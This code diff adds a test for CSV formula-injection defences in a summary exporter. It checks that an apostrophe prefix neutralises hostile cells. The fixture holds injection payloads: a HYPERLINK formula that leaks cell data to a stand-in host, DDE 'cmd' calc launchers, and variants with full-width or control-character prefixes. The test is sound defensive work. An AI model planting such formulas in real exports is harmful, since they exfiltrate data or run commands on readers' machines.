@@ -16,6 +16,7 @@ import {
   type ExportProgress,
   type ExportRequest,
 } from '../../../../../src-shared/domain/summaryExport';
+import { exportTexts } from '../../../../../src-shared/insights/summaryText';
 import { docxText, pdfText } from '../../../../support/exportParsers';
 import { memoryLogger } from '../../../../support/silentLogger';
 import { tempDir } from '../../../../support/tempDir';
@@ -138,6 +139,37 @@ describe('exporting summaries (SI-10)', () => {
           expect(plain, `${format} ${language}`).not.toContain('exported as written');
         }
       }
+    }
+  });
+
+  it('a CSV cell never starts a spreadsheet formula; the reader still sees the whole text', async () => {
+    const base = summarizeBuiltin(fixture('printer-en'), 'en');
+    const hostile = {
+      title: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
+      problem: '+cmd|" /C calc"!A0',
+      outcome: '-2+3+cmd|" /C calc"!A0',
+      note: '@SUM(1+1)*cmd|" /C calc"!A0',
+      applications: ['\t=1+1', 'Word'],
+      actionsTaken: ['\uFF1DHYPERLINK("https://evil.example")', 'restarted the spooler'],
+      followUps: ['\r=2+2'],
+    };
+    const summary = cache.add('request-formulas', 'acme', { ...base, ...hostile });
+    for (const language of ['en', 'de'] as const) {
+      const { content } = await run({ ids: [summary.id], format: 'csv', language });
+      const [header, row] = parse(content, { bom: true, delimiter: language === 'de' ? ';' : ',' }) as string[][];
+      const { labels } = exportTexts(language);
+      const cell = (label: string) => row![header!.indexOf(label)];
+      // OWASP's advice: a leading apostrophe makes the cell text, and the text after it is unchanged.
+      expect(cell(labels.title)).toBe(`'${hostile.title}`);
+      expect(cell(labels.problem)).toBe(`'${hostile.problem}`);
+      expect(cell(labels.outcome)).toBe(`'${hostile.outcome}`);
+      // The German export adds its note that this English summary went out as written.
+      const languageNote = language === 'de' ? ` ${exportTexts('de').languageNote('en')}` : '';
+      expect(cell(labels.note)).toBe(`'${hostile.note}${languageNote}`);
+      expect(cell(labels.applications)).toBe(`'${hostile.applications.join(', ')}`);
+      expect(cell(labels.actions)).toBe(`'${hostile.actionsTaken.join('\n')}`);
+      expect(cell(labels.followUps)).toBe(`'${hostile.followUps.join('\n')}`);
+      for (const value of row!) expect(value, language).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
     }
   });
 
